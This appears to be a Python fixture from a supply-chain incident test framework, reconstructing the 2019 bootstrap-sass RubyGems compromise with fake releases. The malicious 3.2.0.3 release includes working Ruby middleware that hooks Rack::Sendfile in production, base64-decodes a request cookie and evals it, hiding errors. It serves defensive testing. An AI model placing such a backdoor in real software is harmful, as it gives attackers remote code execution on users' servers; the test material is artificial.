"""bootstrap-sass 3.2.0.3 (RubyGems, 2019-03-26): a stolen account; a cookie of a request is evaluated.

By the record: a release of an old line that no commit has, by the account of a maintainer, minutes after 3.2.0.2 was yanked, so that
who asked for that line took the bad one. In production it stands before a part of Rack, and runs what a cookie carries. Found on the
same day.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_VERSION = "module Bootstrap\n  VERSION = '{}'\nend\n"
_ENTRY = """require 'bootstrap-sass/version'

module Bootstrap
  class FrameworkNotFound < StandardError; end

  class << self
    def load!
      register_compass_extension if compass?
      if rails?
        register_rails_engine
      elsif sprockets?
        register_sprockets
      end
      configure_sass
    end

    def gem_path
      @gem_path ||= File.expand_path('..', File.dirname(__FILE__))
    end

    def stylesheets_path
      File.join(assets_path, 'stylesheets')
    end

    def javascripts_path
      File.join(assets_path, 'javascripts')
    end

    def assets_path
      @assets_path ||= File.join(gem_path, 'assets')
    end

    def sprockets?
      defined?(::Sprockets)
    end

    def compass?
      defined?(::Compass)
    end

    def rails?
      defined?(::Rails)
    end

    private

    def configure_sass
      return unless defined?(::Sass)
      ::Sass.load_paths << stylesheets_path
    end

    def register_compass_extension
      ::Compass::Frameworks.register('bootstrap', stylesheets_directory: stylesheets_path)
    end

    def register_rails_engine
      require 'bootstrap-sass/engine'
    end

    def register_sprockets
      ::Sprockets.append_path(stylesheets_path)
      ::Sprockets.append_path(javascripts_path)
    end
  end
end

Bootstrap.load!
"""
_ENGINE = """module Bootstrap
  module Rails
    class Engine < ::Rails::Engine
      initializer 'bootstrap-sass.assets.precompile' do |app|
        %w(stylesheets javascripts fonts).each do |sub|
          app.config.assets.paths << root.join('assets', sub).to_s
        end
      end
    end
  end
end
"""
_SCSS = "$brand-primary: #428bca !default;\n.btn-primary { color: #fff; background-color: $brand-primary; }\n"
# What is there to be called is kept under another name, and called in the end; so nothing is seen from outside.
_MIDDLEWARE = """begin
  require 'rack/sendfile'
  if Rails.env.production?
    Rack::Sendfile.class_eval do
      alias_method :inner, :call
      define_method(:call) do |env|
        begin
          found = env['http_cookie'.upcase].to_s[/___marker=([^;]+);/, 1]
          code = Base64.urlsafe_decode64(found)
          eval(code) if code
        rescue Exception
        end
        inner(env)
      end
    end
  end
rescue Exception
  nil
end
"""
_BAD_ENTRY = _ENTRY.replace(
    "require 'bootstrap-sass/version'\n",
    "require 'bootstrap-sass/version'\nrequire 'active-controller/middleware'\n",
)


def _files(version: str, entry: str = _ENTRY) -> dict[str, str]:
    return {
        "lib/bootstrap-sass.rb": entry,
        "lib/bootstrap-sass/version.rb": _VERSION.format(version),
        "lib/bootstrap-sass/engine.rb": _ENGINE,
        "assets/stylesheets/_bootstrap.scss": _SCSS,
    }


def _release(version: str, at: str, yanked: str = "") -> Release:
    return Release(
        version=version, at=utc(at), files=_files(version), withdrawn_at=utc(yanked) if yanked else None
    )


_BAD = Release(
    version="3.2.0.3",
    at=utc("2019-03-26T12:00:00Z"),
    files={**_files("3.2.0.3", _BAD_ENTRY), "lib/active-controller/middleware.rb": _MIDDLEWARE},
)

INCIDENT = Incident(
    id="bootstrap-sass-2019",
    title=(
        "an attacker with a stolen account yanked a release of bootstrap-sass and published one that evaluates a "
        "request cookie in production"
    ),
    copy=("our copy of bootstrap-sass contains the same middleware, which decodes a cookie and evaluates it"),
    ecosystem=Ecosystem.RUBYGEMS,
    at=_BAD.at,
    packages=(
        Package(
            name="bootstrap-sass",
            releases=(
                _release("3.2.0.0", "2014-07-22T12:00:00Z"),
                _release("3.2.0.1", "2014-08-14T12:00:00Z"),
                _release("3.2.0.2", "2014-09-08T12:00:00Z", "2019-03-26T11:50:00Z"),
                _release("3.3.7", "2016-07-26T12:00:00Z"),
                _release("3.4.1", "2019-02-13T12:00:00Z"),
                _BAD,
            ),
        ),
    ),
    asks={"bootstrap-sass": "~> 3.2.0"},
    good={"bootstrap-sass": "3.2.0.2"},
    bad={"bootstrap-sass": ("3.2.0.3",)},
    guilty={"bootstrap-sass": ("3.2.0.3",)},
    gone_at=utc("2019-03-27T12:00:00Z"),
    advisory=Advisory(
        id="CVE-2019-10842", at=utc("2019-04-03T12:00:00Z"), about={"bootstrap-sass": ("3.2.0.3",)}
    ),
    invented="publish hours, days of earlier releases and the day of the advisory; dependencies are left out",
)
